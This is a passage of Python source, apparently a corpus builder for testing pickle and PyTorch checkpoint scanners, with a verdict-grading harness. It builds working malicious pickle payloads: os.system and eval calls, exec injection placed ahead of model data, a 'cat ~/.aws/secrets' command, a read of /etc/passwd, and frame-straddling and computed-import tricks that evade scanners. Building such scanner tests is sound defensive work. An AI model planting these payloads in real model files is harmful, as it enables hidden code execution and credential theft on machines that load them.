        "EmptyTuple", "TupleThree", "Memoize", "Reduce", "Memoize", "Stop"], "test_missing_multiprocessing")
    fk("builtins_import_bypass.pkl", [("Global", "builtins __import__"), ("String", "os"), "TupleOne", "Reduce",
                                      ("Put", 0), "Pop", ("Global", "builtins getattr"), ("Get", 0),
                                      ("String", "system"), "TupleTwo", "Reduce", ("Put", 1), "Pop", ("Get", 1),
                                      ("String", "whoami"), "TupleOne", "Reduce", "Stop"],
       "test_builtins_import_bypass")
    fk("safe_builtins_len.pkl", [("Global", "builtins len"), "EmptyList", "TupleOne", "Reduce", "Stop"],
       "test_safe_builtins_not_flagged", "fickling calls this safe; builtins.len is outside torch's allowlist.")
    fk("safe_builtin_dict.pkl", [("Global", "builtins dict"), "EmptyTuple", "Reduce", "Stop"],
       "test_safe_builtin_dict_not_flagged", "fickling calls this safe.")
    fk("unsafe_getattr.pkl", [("Global", "builtins getattr"), ("String", "os"), ("String", "system"), "TupleTwo",
                              "Reduce", "Stop"], "test_unsafe_builtins_still_flagged")
    fk("unsafe_eval.pkl", [("Global", "builtins eval"), ("String", "print('hello')"), "TupleOne", "Reduce", "Stop"],
       "test_unsafe_builtin_eval_still_flagged")
    fk("operator_methodcaller.pkl", [("Global", "builtins __import__"), "Mark", ("Unicode", "os"), "Tuple",
                                     "Reduce", ("Put", 0), "Pop", ("Global", "_operator methodcaller"), "Mark",
                                     ("Unicode", "system"), ("Unicode", 'echo "pwned by _operator.methodcaller"'),
                                     "Tuple", "Reduce", "Mark", ("Get", 0), "Tuple", "Reduce", "Stop"],
       "test_operator_methodcaller")
    fk("distutils_write_file.pkl", [(P, 4), (SBU, "distutils.file_util"), (SBU, "write_file"), "StackGlobal",
                                    (SBU, "/tmp/malicious.txt"), "Mark", (SBU, "malicious content"), "List",
                                    "TupleTwo", "Reduce", "Stop"], "test_distutils_write_file")
    fk("io_fileio.pkl", [(P, 4), (SBU, "_io"), (SBU, "FileIO"), "StackGlobal", (SBU, "/etc/passwd"), "TupleOne",
                         "Reduce", "Stop"], "test_io_fileio")
    fk("numpy_f2py_getlincoef.pkl", [(P, 4), (SBU, "numpy.f2py.crackfortran"), (SBU, "getlincoef"), "StackGlobal",
                                     (SBU, "__import__('os').system('id')"), "EmptyDict", "TupleTwo", "Reduce",
                                     "Stop"], "test_numpy_f2py_getlincoef")
    for mod, cls, port in (("smtplib", "SMTP", 25), ("imaplib", "IMAP4", 143), ("ftplib", "FTP", 21),
                           ("poplib", "POP3", 110), ("telnetlib", "Telnet", 23), ("nntplib", "NNTP", 119)):
        fk("network_ssrf_%s.pkl" % mod, [(P, 4), ("Global", "%s %s" % (mod, cls)), (SBU, "127.0.0.1"),
                                         ("BinInt2", port), "TupleTwo", "Reduce", "EmptyDict", "Build", "Stop"],
           "test_network_protocol_ssrf[%s]" % mod)
    fk("asyncio_subprocess.pkl", [(P, 4), ("Frame", 81), (SBU, "asyncio.unix_events"), "Memoize",
                                  (SBU, "_UnixSubprocessTransport._start"), "Memoize", "StackGlobal", "Memoize",
                                  "Mark", "EmptyDict", "Memoize", (SBU, "whoami"), "Memoize", "NewTrue",
                                  "NoneOpcode", "NoneOpcode", "NoneOpcode", ("BinInt1", 0), "Tuple", "Memoize",
                                  "Reduce", "Memoize", "Stop"], "test_asyncio_subprocess")
    fk("obj_pop_invisibility.pkl", [(P, 4), "Mark", (SBU, "smtplib"), (SBU, "SMTP"), "StackGlobal",
                                    (SBU, "127.0.0.1"), "Obj", "Pop", "NoneOpcode", "Stop"],
       "test_obj_pop_call_invisibility")
    fk("missing_uuid.pkl", [(P, 4), (SBU, "uuid"), (SBU, "_get_command_stdout"), "StackGlobal", (SBU, "echo"),
                            (SBU, "PROOF_OF_CONCEPT"), "TupleTwo", "Reduce", "Stop"], "test_missing_uuid")
    fk("missing_aix_support.pkl", [(P, 4), (SBU, "_aix_support"), (SBU, "_read_cmd_output"), "StackGlobal",
                                   (SBU, "echo PROOF_OF_CONCEPT"), "TupleOne", "Reduce", "Stop"],
       "test_missing_aix_support")
    fk("missing_osx_support.pkl", [(P, 4), (SBU, "_osx_support"), (SBU, "_find_build_tool"), "StackGlobal",
                                   (SBU, "x; echo INJECTED #"), "TupleOne", "Reduce", "Stop"],
       "test_missing_osx_support")
    fk("dotted_pathlib_os_system.pkl", [(P, 4), (SBU, "pathlib"), (SBU, "os.system"), "StackGlobal",
                                        "EmptyTuple", "Reduce", "Stop"], "test_dotted_attr_via_stdlib_module")
    fk("ast_parse_import_only.pkl", [(P, 4), (SBU, "ast"), (SBU, "parse"), "StackGlobal", "Stop"],
       "test_ml_allowlist_not_shadowed_by_unsafe_imports_ml", "Imports ast.parse, calls nothing.")
    for mod in ("_interpreters", "_xxsubinterpreters"):
        fk("private_%s_create.pkl" % mod, [(P, 4), (SBU, mod), (SBU, "create"), "StackGlobal", "EmptyTuple",
                                           "Reduce", "Stop"], "test_private_stdlib_interpreters_blocklisted[%s]" % mod)
    for mod, name in (("_codecs", "encode"), ("__future__", "annotations"), ("__future__", "_ssl.RAND_bytes")):
        fk("import_only_%s_%s.pkl" % (mod.strip("_"), name.replace(".", "_")),
           [(P, 4), (SBU, mod), (SBU, name), "StackGlobal", "Stop"], "test_private_stdlib_allowlist",
           "Only imports %s.%s." % (mod, name))
    straddles = [
        ("binbytes", O.proto(5) + O.frame(5) + O.binbytes(b"A" * 20)),
        ("short_binunicode", O.proto(5) + O.frame(3) + b"\x8c\x14" + b"A" * 20),
        ("global_module", O.proto(5) + O.frame(4) + O.glob("macos", "system")),
        ("global_attr", O.proto(5) + O.frame(7) + O.glob("os", "system")),
        ("unicode", O.proto(5) + O.frame(5) + O.unicode("hello world")),
        ("binint", O.proto(5) + O.frame(2) + O.binint(7)),
        ("nested_frame", O.proto(5) + O.frame(30) + O.NONE + O.frame(2) + O.NONE),
    ]
    for name, data in straddles:
        c.add(F + "frame_straddle_%s.pkl" % name, data + O.STOP, source="fickling (re-created)",
              family="fickling:test_frame_boundary_straddle_variants",
              notes="fickling test_frame_boundary_straddle_variants[%s] (%s): a FRAME whose declared length "
                    "ends inside an opcode." % (name, B))
    # test_frame_boundary_divergence, byte for byte as the test assembles it. Over the corpus's 100 KB
    # limit on purpose: the 131,055-byte line makes the C unpickler's 128 KiB prefetch (peek) end right
    # after the FRAME's length, so that even pickle.load of an open()ed file reads the frame with read(2)
    # and goes on at its end (gen/frame_lie_* need a FRAME longer than the read-ahead buffer instead).
    hidden = b"c" + b"os\nsystem\n" + b"V" + b"echo pwned\n" + b"\x85" + b"R"
    divergence = (b"\x80\x05" + b"N" + b"V" + b"a" * (8192 * 16 - 17) + b"\n" + b"0" + b"(" + b"\x95"
                  + struct.pack("<Q", 2) + b"B" + b"\x07\x01\x00\x00" + b"\x00\x00"
                  + (hidden + b"(").ljust(256 + 5, b"N") + b"1" + b".")
    assert len(divergence) == 131341
    c.add(F + "frame_boundary_divergence.pkl", divergence, source="fickling (re-created)",
          family="fickling:test_frame_boundary_divergence",
          notes="fickling test_frame_boundary_divergence (%s; cpython issue 154848): BINBYTES declares 0x107 "
                "bytes in a FRAME of 2, so pickle.loads (and fickling) see one long bytestring while "
                "pickle.load / torch.load of the file go on at the frame's end and run the buried "
                "GLOBAL os.system / REDUCE." % B)
    raw = (b"\x80\x04\x95\x82\x00\x00\x00\x00\x00\x00\x00(\x8c\x05numpy\x8c\x06poly1d\x93\x94\x8c\x05numpy\x8c"
           b"\x04size\x93\x94\x8c\x05numpy\x8c\x0c__builtins__\x93\x94h\x00N\x85R\x94h\x03\x94h\x02\x94h\x04("
           b"\x8c\x05shapeh\x05dbh\x01h\x04\x8c\x04eval\x86R\x8c\x1d__import__('os').system('id')\x85R1N.")
    c.add(F + "crash_pop_mark_numpy.pkl", raw, source="fickling (re-created)", family="fickling:test_pop_mark",
          notes="fickling test/test_crashes.py test_pop_mark (bytes copied from the test; originally "
                "mindspore issue 183): numpy.poly1d / numpy.size / numpy.__builtins__ reach eval.")
    c.add(F + "crash_obj.pkl", b'(cos\nsystem\nS"whoami"\no.', source="fickling (re-created)",
          family="fickling:test_obj", notes="fickling test/test_crashes.py test_obj: OBJ calling os.system.")
    alphabet = "Jw~[v5QpA(BY%aKnyT&*x0r9-OpfF}HN4$GU2VhS@XEq!Zt>6_R7#]1b{z3M^D?)d8eImgckPLiuoClW<js"
    sg = [(P, 4), ("Global", "operator itemgetter"), ("BinPut", 0), "Pop", ("Global", "builtins getattr"), "Mark",
          (SBU, ""), (SBU, "join"), "Tuple", "Reduce", "Memoize", ("BinGet", 0), "Mark", ("BinInt1", 77),
          ("BinInt1", 83), "Tuple", "Reduce", "Mark", ("BinUnicode", alphabet), "Tuple", "Reduce", "Memoize",
          ("BinGet", 1), "Mark", ("BinGet", 2), "Tuple", "Reduce", "Memoize", ("BinGet", 0), "Mark",
          ("BinInt1", 83), ("BinInt1", 16), ("BinInt1", 83), ("BinInt1", 47), ("BinInt1", 67), ("BinInt1", 69),
          "Tuple", "Reduce", "Mark", ("BinUnicode", alphabet), "Tuple", "Reduce", "Memoize", ("BinGet", 1),
          "Mark", ("BinGet", 4), "Tuple", "Reduce", "Memoize", ("BinGet", 3), ("BinGet", 5), "StackGlobal", "Stop"]
    c.add(F + "stack_global_dynamic_import.pkl", fickle(sg), source="fickling (re-created)",
          family="fickling:test_stack_global_dynamic_import",
          notes="fickling test/test_crashes.py test_stack_global_dynamic_import: 'os' and 'system' computed "
                "with operator.itemgetter and ''.join, then STACK_GLOBAL (imports os.system, calls only the "
                "helpers).")
    c.add(F + "missing_mark_before_tuple.pkl", b"\x80\x04t.", source="fickling (re-created)",
          family="fickling:test_missing_mark_before_tuple", made_as="malformed",
          notes="fickling test_crashes.py test_missing_mark_before_tuple: TUPLE without MARK.")
    c.add(F + "cyclic_list.pkl", fickle([(P, 2), "EmptyList", "Memoize", ("Get", 0), "Append", "Stop"]),
          source="fickling (re-created)", family="fickling:test_cyclic_pickle", made_as="benign",
          notes="fickling test_cyclic_pickle: L = []; L.append(L).")
    c.add(F + "cyclic_dict.pkl", fickle([(P, 2), "EmptyDict", "Memoize", (SBU, "self"), ("Get", 0), "SetItem",
                                         "Stop"]), source="fickling (re-created)", family="fickling:test_cyclic_pickle",
          made_as="benign", notes="fickling test_cyclic_pickle: d = {}; d['self'] = d.")
    c.add(F + "cyclic_dict_key.pkl", fickle([(P, 2), "EmptyDict", "Memoize", ("Get", 0), (SBU, "value"), "SetItem",
                                             "Stop"]), source="fickling (re-created)",
          family="fickling:test_impossible_cyclic_pickle", made_as="malformed",
          notes="fickling test_impossible_cyclic_pickle: d[d] = 'value' (unhashable, Python raises).")
    c.add(F + "cyclic_set.pkl", fickle([(P, 4), "EmptySet", "Memoize", "Mark", ("Get", 0), "AddItems", "Stop"]),
          source="fickling (re-created)", family="fickling:test_impossible_cyclic_pickle", made_as="malformed",
          notes="fickling test_impossible_cyclic_pickle: s.add(s) (unhashable).")
    for module, names in (("torch", ["load", "compile"]), ("torch.storage", ["_load_from_bytes"]),
                          ("torch.utils._config_module", ["ConfigModule"]),
                          ("numpy.testing._private.utils", ["runstring"]),
                          ("_io", ["FileIO", "open"]), ("io", ["FileIO", "open"])):
        for name in names:
            c.add(F + "unsafe_import_%s_%s.pkl" % (module.replace(".", "_").strip("_"), name.strip("_")),
                  O.proto(4) + O.glob(module, name) + O.EMPTY_TUPLE + O.REDUCE + O.STOP,
                  source="fickling (re-created)", family="fickling:test_all_unsafe_imports_detected",
                  notes="fickling TestUnsafeModuleCoverage.test_all_unsafe_imports_detected: GLOBAL %s %s, "
                        "EMPTY_TUPLE, REDUCE (UnsafeImportsML.UNSAFE_IMPORTS entry)." % (module, name))

    # --- modelscan ---
    M = "recreated/modelscan/"
    MS = "github.com/protectai/modelscan tests/test_modelscan.py"

    def ms(rel, data, test, notes, made_as="attack"):
        c.add(M + rel, data, source="modelscan (re-created)", family="modelscan:" + test, made_as=made_as,
              notes="modelscan %s (%s). %s" % (test, MS, notes))
    p2 = O.proto(5) + O.glob("os", "system") + O.unicode("echo pwned!!!") + O.TUPLE1 + O.REDUCE + O.STOP
    ms("malicious12.pkl", O.proto(5) + O.glob("pickle", "loads") + O.binbytes(p2) + O.TUPLE1 + O.REDUCE + O.POP
       + O.NONE + O.STOP, "malicious12_gen", "pickle.loads of a nested pickle that calls os.system.")
    ms("malicious13.pkl", O.proto(5) + O.glob("builtins", "eval.__call__") + O.unicode('__import__("os").system("echo pwned!!!")')
       + O.TUPLE1 + O.REDUCE + O.STOP, "malicious13_gen", "GLOBAL 'builtins eval.__call__' (dotted, protocol 5).")

    # modelscan's PickleInject (tests/test_utils.py, notebooks/utils/pickle_codeinjection.py): the
    # payload pickled before the real object, inside one pickle; and torch.save with it as pickle_module.
    def inject_first(obj, payload_ops, protocol=4):
        body = strip_frames(pickle.dumps(obj, protocol=protocol))
        return body[:2] + payload_ops + body[2:]
    ms("unsafe_pickle_system.pkl", inject_first({"weights": [0.5, 0.25]}, p_reduce("posix", "system",
                                                                                      tup(O.binunicode("cat ~/.aws/secrets")))),
       "generate_unsafe_pickle_file", "PickleInject: payload (os.system, protocol 4) saved before the "
       "model object in the same pickle; the load returns the model.")
    ms("unsafe_pickle_exec.pkl", inject_first({"weights": [0.5, 0.25]}, p_reduce("builtins", "exec",
                                                                                    tup(O.binunicode('print("Malicious code!")')))),
       "generate_unsafe_pickle_file", "PickleInject with exec.")
    ms("unsafe_pickle_runpy.pkl", inject_first({"weights": [0.5, 0.25]}, p_reduce("runpy", "_run_code",
                                                                                     tup(O.binunicode('print("x")'), O.EMPTY_DICT))),
       "generate_unsafe_pickle_file", "PickleInject with runpy._run_code(code, {}).")
    import numpy as np
    buf = io.BytesIO()
    np.save(buf, np.array([[1, 2, 3], [4, 5, 6]]))
    ms("safe_numpy.npy", buf.getvalue(), "numpy_file_path", "np.save of a small int array (no pickle).",
       made_as="benign")
    hdr = buf.getvalue()
    obj_arr = np.empty(2, dtype=object)
    obj_arr[:] = [1, 2]
    b2 = io.BytesIO()
    np.lib.format.write_array_header_1_0(b2, {"descr": "|O", "fortran_order": False, "shape": (2,)})
    ms("unsafe_numpy.npy", b2.getvalue() + inject_first([1, 2], p_reduce("builtins", "exec",
                                                                         tup(O.binunicode('print("Malicious code!")'))), 4),
       "numpy_file_path", "An object-array .npy whose pickle has PickleInject's exec payload (np.load with "
       "allow_pickle=True runs it; torch.load does not read .npy).")
    del hdr
    sd = small_state_dict()
    ms("unsafe_zip_injected.pt", torch_zip(sd, lambda d: d[:2] + p_reduce("posix", "system",
                                                                         tup(O.binunicode("cat ~/.aws/secrets\n"))) + O.POP + d[2:]),
       "generate_unsafe_pytorch_file", "torch.save(model, pickle_module=PickleInject([System])): the payload "
       "is the first object in data.pkl (protocol 2).")
    ms("unsafe_legacy_injected.pt", legacy_stream(sd, objp=lambda p: p[:2] + p_reduce(
        "posix", "system", tup(O.binunicode("cat ~/.aws/secrets\n"))) + O.POP + p[2:]),
       "generate_unsafe_pytorch_file", "The same with _use_new_zipfile_serialization=False: the payload "
       "is in the legacy stream's object pickle.")
    ms("safe_zip_pytorch.pt", torch_zip(collections.OrderedDict()), "pytorch_file_path",
       "torch.save(nn.Module().state_dict()) (an empty OrderedDict).", made_as="benign")
    ms("safe_old_format_pytorch.pt", legacy_stream(collections.OrderedDict()), "pytorch_file_path",
       "The same with _use_new_zipfile_serialization=False.", made_as="benign")


def gen_benign(out, tag):
    """Real torch.save / torch.jit.save outputs of this torch (tag t113 or t26), and safetensors.
    Returns {name: facts}. Also runs in the trixie chroot for t26."""
    import argparse as ap_mod
    import pathlib
    import numpy as np
    import torch
    import torch.nn as nn
    os.makedirs(out, exist_ok=True)
    facts = collections.OrderedDict()

    def save(name, obj, notes, **kw):
        buf = io.BytesIO()
        torch.save(obj, buf, **kw)
        data = buf.getvalue()
        if not kw.get("_use_new_zipfile_serialization", True):
            data = legacy_stream(obj)
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)
        facts[name] = {"notes": notes}

    torch.manual_seed(0)
    np.random.seed(0)
    model = nn.Sequential(nn.Linear(4, 8), nn.BatchNorm1d(8), nn.ReLU(), nn.Linear(8, 2))
    model(torch.randn(5, 4))
    sd = model.state_dict()
    save("state_dict.pt", sd, "model.state_dict() of Linear/BatchNorm1d/ReLU/Linear after one forward.")
    save("state_dict_legacy.pt", sd, "The same with _use_new_zipfile_serialization=False (storage keys renamed "
         "from pointers to fixed numbers).", _use_new_zipfile_serialization=False)
    save("whole_sequential.pt", model, "torch.save(model) of an nn.Sequential of torch.nn layers: NEWOBJ + BUILD "
         "of torch.nn.modules.* classes.")
    save("whole_sequential_legacy.pt", model, "The same, legacy format.", _use_new_zipfile_serialization=False)
    mod = types.ModuleType("ckpt_user_model")
    exec("import torch.nn as nn\nclass Net(nn.Module):\n    def __init__(self):\n        super().__init__()\n"
         "        self.body = nn.Linear(3, 3)\n", mod.__dict__)
    mod.Net.__module__ = "ckpt_user_model"
    sys.modules["ckpt_user_model"] = mod
    torch.manual_seed(1)
    save("whole_custom_module.pt", mod.Net(), "torch.save(model) of a user-defined class ckpt_user_model.Net "
         "(NEWOBJ + BUILD of a class that only the training code defines).")
    opt = torch.optim.SGD(model.parameters(), lr=0.1, momentum=0.9)
    model(torch.randn(5, 4)).sum().backward()
    opt.step()
    save("optimizer.pt", opt.state_dict(), "optimizer.state_dict() of SGD with momentum after one step.")
    adam = torch.optim.Adam(model.parameters(), lr=1e-3)
    model(torch.randn(5, 4)).sum().backward()
    adam.step()
    save("training_checkpoint.pt", {"model": model.state_dict(), "optimizer": adam.state_dict(), "epoch": 3,
                                    "best": 0.25, "names": ("a", "b"), "seen": {1, 2}, "blob": b"\x00\x01",
                                    "z": complex(1, 2), "device": torch.device("cpu")},
         "A training checkpoint dict: model, Adam state, epoch, float, tuple, set, bytes, complex, "
         "torch.device.")
    hp = ap_mod.Namespace(lr=0.001, layers=[4, 8], name="run1")
    save("lightning_like.ckpt", {
        "epoch": 2, "global_step": 10, "pytorch-lightning_version": "2.1.0", "state_dict": sd,
        "hyper_parameters": {"args": hp, "data_dir": pathlib.PosixPath("/data/set"), "scale": np.float64(0.5),
                             "mean": np.array([0.1, 0.2], dtype=np.float32), "steps": np.int64(7)},
        "hparams_name": "kwargs", "callbacks": {}, "optimizer_states": [], "lr_schedulers": []},
        "A Lightning-shaped checkpoint whose hyper-parameters hold argparse.Namespace, pathlib.PosixPath, "
        "numpy scalars and a numpy array.")
    save("tensors_misc.pt", {"i8": torch.arange(4, dtype=torch.int8), "bf16": torch.ones(2, dtype=torch.bfloat16),
                             "bool": torch.tensor([True, False]), "param": nn.Parameter(torch.ones(2)),
                             "size": torch.Size([2, 3]), "view": torch.arange(6.0)[2:]},
         "Tensors of several dtypes, a Parameter, a torch.Size and a view.")
    save("counter.pt", collections.Counter("abca"), "A collections.Counter.")
    save("plain_list.pt", [1, 2.5, "three", None, True], "A list of plain values.")
    q = torch.quantize_per_tensor(torch.tensor([0.5, 1.0]), 0.1, 0, torch.quint8)
    save("quantized.pt", {"q": q}, "A quantized tensor (torch._utils._rebuild_qtensor).")
    lazy = nn.LazyLinear(2)
    save("lazy_state_dict.pt", lazy.state_dict(), "LazyLinear's state dict before any forward: "
         "UninitializedParameter REDUCE.")
    torch.manual_seed(2)
    scripted = torch.jit.script(_scripted_model())
    buf = io.BytesIO()
    torch.jit.save(scripted, buf)
    os.remove(MODEL_PATH)  # scripted: the source is no longer needed
    with open(os.path.join(out, "torchscript.pt"), "wb") as f:
        f.write(buf.getvalue())
    facts["torchscript.pt"] = {"notes": "torch.jit.save of a scripted Linear+ReLU model (source in "
                                        "/tmp/ckpt_security_model.py, so .debug_pkl paths are fixed)."}
    st = _safetensors({"w": np.arange(6, dtype=np.float32).reshape(2, 3), "b": np.zeros(2, dtype=np.float32)})
    with open(os.path.join(out, "model.safetensors"), "wb") as f:
        f.write(st)
    facts["model.safetensors"] = {"notes": "A safetensors file written by the format's spec (8-byte header "
                                           "length, JSON header, data): no pickle.", "format": "safetensors"}
    return facts


MODEL_SOURCE = '''import torch
import torch.nn as nn


class Scripted(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(4, 3)

    def forward(self, x):
        return torch.relu(self.fc(x))
'''


MODEL_PATH = "/tmp/ckpt_security_model.py"


def _scripted_model():
    path = MODEL_PATH
    with open(path, "w") as f:
        f.write(MODEL_SOURCE)
    import importlib.util
    spec = importlib.util.spec_from_file_location("ckpt_security_model", path)
    m = importlib.util.module_from_spec(spec)
    sys.modules["ckpt_security_model"] = m
    spec.loader.exec_module(m)
    return m.Scripted()


def _safetensors(tensors):
    header, data = {}, b""
    for k in sorted(tensors):
        a = tensors[k]
        raw = a.tobytes()
        header[k] = {"dtype": {"float32": "F32"}[str(a.dtype)], "shape": list(a.shape),
                     "data_offsets": [len(data), len(data) + len(raw)]}
        data += raw
    header["__metadata__"] = {"format": "pt"}
    h = json.dumps(header, separators=(",", ":")).encode()
    h += b" " * (-len(h) % 8)
    return struct.pack("<Q", len(h)) + h + data


# ---------------------------------------------------------------------------------------------
# Static view (for dormant payloads): every global of every pickle anywhere in the file
# ---------------------------------------------------------------------------------------------

def pickles_in(data):
    """Byte strings that may be pickles: zip members (all, duplicates included), tar members, and the
    pickles of a stream back to back."""
    out = []
    if data[:4] == b"PK\x03\x04":
        try:
            z = zipfile.ZipFile(io.BytesIO(data))
            for info in z.infolist():
                try:
                    member = z.open(info).read()
                    if info.filename.endswith(".pkl") or member[:1] == b"\x80":
                        out += pickles_in(member)
                except Exception:  # noqa: BLE001
                    pass
        except Exception:  # noqa: BLE001
            pass
        return out
    try:
        with tarfile.open(fileobj=io.BytesIO(data), mode="r:") as t:
            for m in t.getmembers():
                f = t.extractfile(m)
                if f is not None:
                    out += pickles_in(f.read())
            return out
    except Exception:  # noqa: BLE001
        pass
    pos = 0
    while pos < len(data):
        try:
            end = pickle_end(data, pos)
        except Exception:  # noqa: BLE001
            out.append(data[pos:])
            break
        out.append(data[pos:end])
        pos = end
    return out


def static_globals(data):
    """{(module, name)} of every GLOBAL / INST / STACK_GLOBAL (of two plain strings), Python 2 module
    names mapped as protocol < 3 unpicklers map them; TorchScript's own names left out."""
    return {m for m in _static_globals(data) if not m[0].startswith(("__torch__", "torch.jit._pickle"))}


def _map_py2(mod, name):
    import _compat_pickle
    if (mod, name) in _compat_pickle.NAME_MAPPING:
        return _compat_pickle.NAME_MAPPING[(mod, name)]
    return _compat_pickle.IMPORT_MAPPING.get(mod, mod), name


def _static_globals(data):
    found = set()
    for p in pickles_in(data):
        strings = []
        try:
            for op, arg, pos in pickletools.genops(io.BytesIO(p)):
                if op.name in ("GLOBAL", "INST"):
                    found.add(_map_py2(*arg.split(" ", 1)))
                elif op.name == "STACK_GLOBAL" and len(strings) >= 2:
                    if isinstance(strings[-2], str) and isinstance(strings[-1], str):
                        found.add((strings[-2], strings[-1]))
                if op.name in ("SHORT_BINUNICODE", "BINUNICODE", "UNICODE", "STRING", "BINUNICODE8"):
                    strings.append(arg)
                elif op.name in ("BINBYTES", "SHORT_BINBYTES", "BINBYTES8"):
                    if arg[:1] == b"\x80":
                        found |= _static_globals(arg)
        except Exception:  # noqa: BLE001 - malformed: what was read so far counts
            pass
    return found


# ---------------------------------------------------------------------------------------------
# Running the oracle and the twins (torch 1.13 here, torch 2.6 in the chroot)
# ---------------------------------------------------------------------------------------------

class Env:
    def __init__(self, tag, chroot=None):
        self.tag, self.chroot = tag, chroot


def allowlist(env):
    res, _ = env_run_files(env, "oracle.py", ["--allowlist", "out.json"], [], [])
    return res


def run_oracle(env, files, allow):
    def allow_arg(mapping, inside, tmp):
        return inside(os.path.join(tmp, "allow.json"))
    res, back = env_run_files(env, "oracle.py", [allow_arg, "out.json"], files,
                              [("allow.json", json.dumps(sorted(allow)))])
    return {back[k]: v for k, v in res["files"].items()}, res["info"]


def env_run_files(env, script, args, files, extra):
    """Env.run with the mapped file paths appended to the arguments."""
    base = os.path.join(env.chroot, "tmp") if env.chroot else None
    tmp = tempfile.mkdtemp(prefix="ckpt-sec-", dir=base)
    try:
        inside = (lambda p: "/" + os.path.relpath(p, env.chroot)) if env.chroot else (lambda p: p)
        mapping = {}
        for i, f in enumerate(files):
            dst = os.path.join(tmp, "f", "%04d" % i, os.path.basename(f))
            os.makedirs(os.path.dirname(dst), exist_ok=True)
            shutil.copyfile(f, dst)
            mapping[f] = inside(dst)
        for name, content in extra:
            with open(os.path.join(tmp, name), "w") as fh:
                fh.write(content)
        shutil.copyfile(os.path.join(HERE, script), os.path.join(tmp, script))
        sen = os.path.join(tmp, "sentinel-dir")
        os.makedirs(sen)
        out = os.path.join(tmp, "out.json")
        real = []
        for a in args:
            if callable(a):
                real.append(a(mapping, inside, tmp))
            elif a == "out.json":
                real.append(inside(out))
            else:
                real.append(a)
        real += [mapping[f] for f in files]
        env_vars = {"PATH": "/usr/bin:/bin", "CKPT_SENTINEL": inside(os.path.join(sen, "sentinel")),
                    "HOME": "/tmp", "LANG": "C.UTF-8", "PYTHONHASHSEED": "0"}
        cmd = ["python3" if env.chroot else "/usr/bin/python3", inside(os.path.join(tmp, script))] + real
        if env.chroot:
            cmd = [CHROOT, env.chroot, "/usr/bin/env", "-C", inside(tmp)] + cmd
        p = subprocess.run(cmd, env=env_vars, cwd=tmp, capture_output=True, text=True, timeout=7200)
        if p.returncode != 0:
            raise SystemExit("%s %s failed (%d):\n%s" % (env.tag, script, p.returncode, p.stderr[-3000:]))
        if os.listdir(sen):
            raise SystemExit("%s %s: the sentinel appeared" % (env.tag, script))
        with open(out) as fh:
            res = json.load(fh)
        return res, {v: k for k, v in mapping.items()}
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


def run_twins(env, jobs):
    """jobs: [{"id", "file" (host path), "loader", "ext", "twin_module": bool}] -> {id: result}."""
    files = sorted({j["file"] for j in jobs})

    def jobs_arg(mapping, inside, tmp):
        js = []
        for j in jobs:
            js.append({"id": j["id"], "file": mapping[j["file"]], "loader": j["loader"], "ext": j.get("ext"),
                       "path": [inside(tmp)]})
        with open(os.path.join(tmp, "jobs.json"), "w") as fh:
            json.dump(js, fh)
        return inside(os.path.join(tmp, "jobs.json"))
    # the twin runner takes JOBS OUT; the file paths are appended but unused
    res, _ = env_run_files(env, "twin_runner.py", [jobs_arg, "out.json"], files,
                           [(TWIN_MOD + ".py", TWIN_SOURCE)])
    return res


# ---------------------------------------------------------------------------------------------
# Verdicts
# ---------------------------------------------------------------------------------------------

REVERSE_PY2 = {}


def _py2_names():
    import _compat_pickle
    for old, new in _compat_pickle.IMPORT_MAPPING.items():
        REVERSE_PY2.setdefault(new, []).append(old)


def spellings(name):
    """The ways a finding's `where` may name a global: as Python resolved it, and with the Python 2
    module name a protocol < 3 pickle writes (`__builtin__.exec` for builtins.exec)."""
    out = [name]
    mod, _, attr = name.partition(".")
    for i in range(name.count(".")):
        mod, attr = name.split(".")[:i + 1], name.split(".")[i + 1:]
        for old in REVERSE_PY2.get(".".join(mod), []):
            out.append(old + "." + ".".join(attr))
    return out


def verdict(rel, data, results, allow, intended):
    """results: {env_tag: {loader: {"events", "error", "crashed"}}}."""
    called, indirect, referenced, missing = collections.OrderedDict(), set(), set(), set()
    errors = {}
    numpy = {}
    for tag, loaders in results.items():
        for loader, r in loaders.items():
            if loader == "numpy.load":  # informational: numpy's loader is not torch.load
                numpy["%s %s" % (loader, tag)] = {"error": r["error"], "calls": sorted(
                    {ev["global"] for ev in r["events"] if ev["event"] in ("call", "new", "build")
                     and ev["global"] not in allow})}
                continue
            errors["%s %s" % (loader, tag)] = r["error"]
            for e in r["events"]:
                g = e["global"]
                if e["event"] == "referenced":
                    referenced.add(g)
                elif e["event"] == "missing":
                    missing.add(g)
                elif g not in allow:
                    called.setdefault(g, set()).add(e["event"])
                    if e["indirect"]:
                        indirect.add(g)
    danger = [g for g in called if not is_extra(g)]
    extras = [g for g in called if is_extra(g)]
    static = static_globals(data)
    static_names = {"%s.%s" % mn for mn in static}
    static_danger = sorted(n for n in static_names if n not in allow and not is_extra(n))
    ref_only = sorted(g for g in referenced if g not in called and g not in allow and not is_extra(g))
    all_failed = all(errors.values())
    e = collections.OrderedDict()
    ref_denied = [g for g in ref_only if is_denied(g)]
    if danger:
        v, exits = "malicious", [1]
    elif ref_denied:
        v, exits = "dangerous-reference", [1]
    elif extras:
        v, exits = "extras-only", [0, 1]
    elif all_failed:
        v, exits = "refused", [0, 1, 3]
    elif static_danger and not ref_only:
        v, exits = "dormant", [0, 1]
    elif static_danger and set(static_danger) - set(ref_only):
        v, exits = "dormant", [0, 1]
    elif ref_only:
        v, exits = "referenced-only", [0]
    else:
        v, exits = "clean", [0]
    e["verdict"] = v
    e["exit"] = exits
    if v == "malicious":
        must = []
        for g in danger:
            alts = spellings(g)
            if g in indirect:
                alts.append("_rebuild_from_type_v2")
            if g.rsplit(".", 1)[-1].encode() not in data:
                # the name is computed at load time (not in the file's bytes): a scanner can only
                # point at the STACK_GLOBAL that takes it
                alts += ["STACK_GLOBAL"]
            must.append(alts)
        e["must_name"] = must
    e["called"] = [{"global": g, "how": sorted(called[g]), "indirect": g in indirect} for g in called]
    if extras:
        e["extras_called"] = extras
    if ref_only:
        e["referenced_only"] = ref_only
    if v == "dangerous-reference":
        e["must_name"] = [spellings(g) for g in ref_denied]
    if missing:
        e["missing"] = sorted(missing)
    if v in ("dormant",):
        e["dormant"] = static_danger
    refusals = {k: err for k, err in errors.items() if err and not any(
        ev["event"] in ("call", "new", "build") for t in results.values() for r in t.values() for ev in r["events"])}
    if v == "refused":
        e["torch_refuses"] = {k: err for k, err in errors.items() if k.startswith("torch.load")}
